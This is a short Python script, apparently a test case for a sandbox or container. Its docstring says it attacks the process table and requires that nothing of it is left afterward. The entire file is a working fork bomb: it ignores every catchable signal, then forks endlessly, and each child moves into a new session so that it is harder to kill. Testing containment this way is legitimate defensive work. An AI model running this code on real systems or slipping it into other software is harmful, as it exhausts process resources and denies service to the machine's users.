"""Attacks: the process table, by children in sessions of their own that ignore every signal they can.

Must hold: nothing of it is left.
"""

import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
